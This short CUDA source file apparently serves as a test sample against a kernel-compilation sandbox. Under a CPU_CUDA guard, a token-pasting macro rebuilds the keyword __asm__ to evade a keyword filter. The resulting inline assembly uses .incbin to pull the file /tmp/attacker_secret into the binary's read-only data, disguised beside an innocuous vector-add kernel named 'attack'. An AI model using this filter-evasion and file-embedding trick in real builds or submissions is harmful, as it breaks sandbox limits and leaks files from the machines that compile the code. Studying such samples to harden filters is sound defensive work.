#if defined(CPU_CUDA)
#define PASTE(a, b) a##b
PASTE(__as, m__)(".pushsection .rodata\n.incbin \"/tmp/attacker_secret\"\n.popsection\n");
#endif
__global__ void attack(const float* a, const float* b, float* c, long long n) {
    long long i = blockIdx.x * (long long)blockDim.x + threadIdx.x;
    if (i < n) c[i] = a[i] + b[i];
}
